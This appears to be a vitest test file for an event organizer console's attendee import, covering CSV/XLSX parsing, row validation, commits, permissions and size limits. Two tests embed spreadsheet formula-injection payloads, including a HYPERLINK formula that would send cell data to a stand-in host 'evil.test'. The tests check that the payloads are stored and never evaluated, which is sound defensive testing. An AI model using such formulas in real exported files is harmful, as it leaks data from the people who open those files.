import type { ImportJob, ImportPreview, ImportValidation } from '@foyer/contract';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { makeEvent, makePerson, makeType, makeUser, type Person } from '../../../test/factories';
import { call, useTestApp } from '../../../test/helper';
import { importFile, importStep } from './import.fixtures';
import { importsIdle } from './import.service';

const t = useTestApp();

type Who = Pick<Person, 'headers'>;
const post = <T>(who: Who, eventId: number, step: string, payload: Record<string, unknown>) =>
  importStep<T>(t.app, who, eventId, step, payload);

const csvFile = (text: string | Buffer, fileName = 'people.csv') => importFile('attendees', text, fileName);
const MAPPING = ['email', 'name', 'surname', 'company', 'type'];

async function organizedEvent() {
  const event = await makeEvent(t.ctx);
  const owner = await makePerson(t.ctx, event.id, { organizer: true, organizerRole: 'owner' });
  await makeType(t.ctx, event.id, { name: 'Attendee' });
  await makeType(t.ctx, event.id, { name: 'VIP' });
  return { event, owner };
}

const participants = (eventId: number) =>
  t.ctx.db
    .selectFrom('participants')
    .selectAll()
    .where('event_id', '=', eventId)
    .where('organizer', '=', false)
    .orderBy('id')
    .execute();

describe('organizer console: import', () => {
  it('previews a CSV with ; delimiter and a BOM: headers, suggested mapping, rows', async () => {
    const { event, owner } = await organizedEvent();
    const text = '\uFEFFE-Mail;First name;Last Name;Organisation;Ticket Type\na@x.test;Ann;Lee;Acme;VIP\n';
    const res = await post<ImportPreview>(owner, event.id, 'preview', csvFile(text));
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      fileType: 'csv',
      headers: ['E-Mail', 'First name', 'Last Name', 'Organisation', 'Ticket Type'],
      mapping: MAPPING,
      rowCount: 1,
      rows: [['a@x.test', 'Ann', 'Lee', 'Acme', 'VIP']],
    });
  });

  it('previews an XLSX (first sheet); a formula cell reads as its formula text, never its result', async () => {
    const { event, owner } = await organizedEvent();
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('People');
    sheet.addRow(['Email', 'Name', 'Surname', 'Company']);
    sheet.addRow(['b@x.test', 'Ben', 'Ng', { formula: 'HYPERLINK("http://evil.test","x")', result: 'x' }]);
    workbook.addWorksheet('Other').addRow(['ignored']);
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await post<ImportPreview>(owner, event.id, 'preview', {
      kind: 'attendees',
      fileName: 'people.xlsx',
      contentBase64: buffer.toString('base64'),
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      fileType: 'xlsx',
      mapping: ['email', 'name', 'surname', 'company'],
      rows: [['b@x.test', 'Ben', 'Ng', '=HYPERLINK("http://evil.test","x")']],
    });
  });

  it('validates every row: bad e-mail, unknown type, duplicate in the file, missing name — nothing written', async () => {
    const { event, owner } = await organizedEvent();
    const text = [
      'email,name,surname,company,type',
      'ok@x.test,Ok,One,,Attendee',
      'not-an-email,Bad,Mail,,',
      'type@x.test,Bad,Type,,Platinum',
      'OK@x.test,Dup,Row,,',
      'noname@x.test,,Nobody,,',
      'vip@x.test,Vera,Vip,,vip',
    ].join('\n');
    const res = await post<ImportValidation>(owner, event.id, 'validate', {
      ...csvFile(text),
      mapping: MAPPING,
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ rowCount: 6, goodCount: 2, badCount: 4, errorCount: 4 });
    expect(res.body.data?.errors).toEqual([
      { row: 3, field: 'email', message: 'organizer.import.error.email' },
      { row: 4, field: 'type', message: 'organizer.import.error.type' },
      { row: 5, field: 'email', message: 'organizer.import.error.duplicate' },
      { row: 6, field: 'name', message: 'organizer.import.error.required' },
    ]);
    expect(await participants(event.id)).toHaveLength(0);
  });

  it('refuses a mapping without e-mail or name, or of the wrong width, with field keys', async () => {
    const { event, owner } = await organizedEvent();
    const file = csvFile('email,name\na@x.test,A\n');
    const noEmail = await post(owner, event.id, 'validate', { ...file, mapping: [null, 'name'] });
    expect(noEmail.status).toBe(400);
    expect(noEmail.body.error?.fields).toEqual({ mapping: 'organizer.import.error.mappingRequired' });
    const twice = await post(owner, event.id, 'commit', { ...file, mapping: ['email', 'email'] });
    expect(twice.body.error?.fields?.mapping).toBe('organizer.import.error.mappingTwice');
    const wide = await post(owner, event.id, 'commit', { ...file, mapping: ['email', 'name', 'city'] });
    expect(wide.status).toBe(400);
    expect(wide.body.error?.fields).toEqual({ mapping: 'organizer.import.error.mappingWidth' });
    const unknown = await post(owner, event.id, 'validate', { ...file, mapping: ['email', 'password'] });
    expect(unknown.status).toBe(400);
    expect(await participants(event.id)).toHaveLength(0);
  });

  it('commits the good rows as invited people without an account; a re-import changes nothing', async () => {
    const { event, owner } = await organizedEvent();
    const text = [
      'email,name,surname,company,type',
      'Ann@X.test,Ann,Lee,Acme,VIP',
      'bad,Bad,Row,,',
      'ben@x.test,Ben,Ng,,',
    ].join('\r\n');
    const body = { ...csvFile(text), mapping: MAPPING };
    const first = await post<ImportJob>(owner, event.id, 'commit', body);
    expect(first.status).toBe(200);
    expect(first.body.data).toMatchObject({
      state: 'done',
      total: 2,
      processed: 2,
      inserted: 2,
      updated: 0,
      unchanged: 0,
      errors: 1,
    });
    const rows = await participants(event.id);
    expect(rows.map((r) => [r.email, r.name, r.state, r.user_id])).toEqual([
      ['ann@x.test', 'Ann', 'invited', null],
      ['ben@x.test', 'Ben', 'invited', null],
    ]);
    const again = await post<ImportJob>(owner, event.id, 'commit', body);
    expect(again.body.data).toMatchObject({ state: 'done', inserted: 0, updated: 0, unchanged: 2 });
    expect((await participants(event.id)).map((r) => r.updated_at)).toEqual(rows.map((r) => r.updated_at));

    const changed = text.replace('Acme', 'Globex');
    const third = await post<ImportJob>(owner, event.id, 'commit', { ...csvFile(changed), mapping: MAPPING });
    expect(third.body.data).toMatchObject({ inserted: 0, updated: 1, unchanged: 1 });
    const job = await call<ImportJob>(t.app, {
      method: 'GET',
      url: `/api/v1/organizer/event/${event.id}/import/${third.body.data?.id}`,
      headers: owner.headers,
    });
    expect(job.body.data).toMatchObject({ state: 'done', updated: 1 });
  });

  it('people imported without a type get the type offered at registration; a given type is kept', async () => {
    const event = await makeEvent(t.ctx);
    const owner = await makePerson(t.ctx, event.id, { organizer: true, organizerRole: 'owner' });
    const guest = await makeType(t.ctx, event.id, { name: 'Guest', atRegistration: true, priority: 2 });
    const vip = await makeType(t.ctx, event.id, { name: 'VIP' });
    const text = ['email,name,surname,company,type', 'cy@x.test,Cy,Ko,,', 'di@x.test,Di,Lu,,VIP'].join('\n');
    const body = { ...csvFile(text), mapping: MAPPING };
    expect((await post<ImportJob>(owner, event.id, 'commit', body)).body.data).toMatchObject({ inserted: 2 });
    expect((await participants(event.id)).map((r) => [r.email, r.type_id])).toEqual([
      ['cy@x.test', guest.id],
      ['di@x.test', vip.id],
    ]);
    expect((await post<ImportJob>(owner, event.id, 'commit', body)).body.data).toMatchObject({
      inserted: 0,
      updated: 0,
      unchanged: 2,
    });
  });

  it('stores a formula-injection cell verbatim as data; nothing evaluates it', async () => {
    const { event, owner } = await organizedEvent();
    const evil = '=HYPERLINK("http://evil.test?x="&A1,"click")';
    const text = `email,name,surname,company\nf@x.test,Fay,"+1+1","${evil.replace(/"/g, '""')}"\n`;
    const res = await post<ImportJob>(owner, event.id, 'commit', {
      ...csvFile(text),
      mapping: ['email', 'name', 'surname', 'company'],
    });
    expect(res.body.data).toMatchObject({ inserted: 1 });
    const [row] = await participants(event.id);
    expect(row).toMatchObject({ company: evil, surname: '+1+1' });
  });

  it('refuses an oversize file or a broken one with a 4xx envelope, never a 5xx', async () => {
    const { event, owner } = await organizedEvent();
    // Over 10 MB decoded, under the route's body limit: the schema refuses it with the field key.
    const tooBig = await post(owner, event.id, 'preview', csvFile('a'.repeat(10.2 * 1024 * 1024)));
    expect(tooBig.status).toBe(400);
    expect(tooBig.body.error?.fields).toEqual({ contentBase64: 'organizer.import.error.fileTooLarge' });
    // Over the body limit: Fastify's 413, in the envelope.
    const overLimit = await post(owner, event.id, 'preview', csvFile('a'.repeat(11 * 1024 * 1024)));
    expect(overLimit.status).toBe(413);
    expect(overLimit.body.error?.code).toBe('MST-00413');
    // 100 MB: refused from its Content-Length before the body is read.
    const huge = await t.app.inject({
      method: 'POST',
      url: `/api/v1/organizer/event/${event.id}/import/preview`,
      headers: {
        ...owner.headers,
        'content-type': 'application/json',
        'content-length': String(100 * 1024 * 1024),
      },
      payload: '{}',
    });
    expect(huge.statusCode).toBe(413);
    expect(huge.json()).toMatchObject({ success: false, error: { code: 'MST-00413' } });
    const notXlsx = await post(owner, event.id, 'preview', { ...csvFile('hello', 'x.xlsx') });
    expect(notXlsx.status).toBe(400);
    expect(notXlsx.body.error?.fields).toEqual({ contentBase64: 'organizer.import.error.fileFormat' });
    const brokenZip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100, 1)]);
    const damaged = await post(owner, event.id, 'preview', { ...csvFile(brokenZip, 'x.xlsx') });
    expect(damaged.status).toBe(400);
    const notBase64 = await post(owner, event.id, 'preview', { ...csvFile(''), contentBase64: '%%%' });
    expect(notBase64.status).toBe(400);
    const nul = await post<ImportPreview>(
      owner,
      event.id,
      'preview',
      csvFile('email,name\na@x.test,A\u0000B\n'),
    );
    expect(nul.body.data?.rows).toEqual([['a@x.test', 'AB']]);
  });

  it('refuses an attendee, an organizer of another event and a check-in admin (403)', async () => {
    const { event } = await organizedEvent();
    const attendee = await makePerson(t.ctx, event.id);
    const staff = await makePerson(t.ctx, event.id, { checkInAdmin: true });
    const elsewhere = await makeEvent(t.ctx);
    const otherOrganizer = await makePerson(t.ctx, elsewhere.id, { organizer: true, organizerRole: 'owner' });
    const stranger = await makeUser(t.ctx);
    const file = csvFile('email,name\na@x.test,A\n');
    const mapped = { ...file, mapping: ['email', 'name'] };
    for (const who of [attendee, staff, otherOrganizer, stranger]) {
      for (const step of ['preview', 'validate', 'commit']) {
        const res = await post(who, event.id, step, step === 'preview' ? file : mapped);
        expect(res.status).toBe(403);
      }
    }
    expect(await participants(event.id)).toHaveLength(2);
  });

  it('imports 5,000 rows in one commit, and a larger file as a job the console polls', async () => {
    const { event, owner } = await organizedEvent();
    const lines = ['email,name,surname'];
    for (let i = 0; i < 5_000; i++) lines.push(`p${i}@bulk.test,Person${i},Bulk`);
    const res = await post<ImportJob>(owner, event.id, 'commit', {
      ...csvFile(lines.join('\n')),
      mapping: ['email', 'name', 'surname'],
    });
    expect(res.body.data).toMatchObject({ state: 'done', inserted: 5_000, processed: 5_000 });

    lines.push('p5000@bulk.test,Person5000,Bulk');
    const job = await post<ImportJob>(owner, event.id, 'commit', {
      ...csvFile(lines.join('\n')),
      mapping: ['email', 'name', 'surname'],
    });
    expect(job.body.data).toMatchObject({ state: 'running', total: 5_001 });
    // Wait for the job itself (not a fixed time), then read what the console's poll answers.
    await importsIdle();
    const poll = await call<ImportJob>(t.app, {
      method: 'GET',
      url: `/api/v1/organizer/event/${event.id}/import/${job.body.data?.id}`,
      headers: owner.headers,
    });
    const state = poll.body.data;
    expect(state).toMatchObject({ state: 'done', inserted: 1, unchanged: 5_000, processed: 5_001 });
    expect(await participants(event.id)).toHaveLength(5_001);
  }, 60_000);

  it('registering later with an imported address takes over that row, its type kept', async () => {
    const { event, owner } = await organizedEvent();
    await t.ctx.db
      .updateTable('events')
      .set({ public_event: true, registration_open: true })
      .where('id', '=', event.id)
      .execute();
    const text = 'email,name,surname,company,type\nlater@x.test,Lia,Later,Acme,VIP\n';
    await post(owner, event.id, 'commit', { ...csvFile(text), mapping: MAPPING });
    const [listed] = await participants(event.id);
    const res = await call(t.app, {
      method: 'POST',
      url: '/api/v1/event/register',
      payload: {
        eventId: event.id,
        name: 'Lia',
        surname: 'Later',
        email: 'Later@X.test',
        password: 'Correct horse 1',
        consent: true,
      },
    });
    expect(res.status).toBe(200);
    const [after] = await participants(event.id);
    expect(after).toMatchObject({ id: listed?.id, state: 'active', type_id: listed?.type_id });
    expect(after?.user_id).not.toBeNull();
  });

  it('answers 404 for an import of another event', async () => {
    const { event, owner } = await organizedEvent();
    const res = await post<ImportJob>(owner, event.id, 'commit', {
      ...csvFile('email,name\na@x.test,A\n'),
      mapping: ['email', 'name'],
    });
    const other = await organizedEvent();
    const peek = await call(t.app, {
      method: 'GET',
      url: `/api/v1/organizer/event/${other.event.id}/import/${res.body.data?.id}`,
      headers: other.owner.headers,
    });
    expect(peek.status).toBe(404);
  });
});
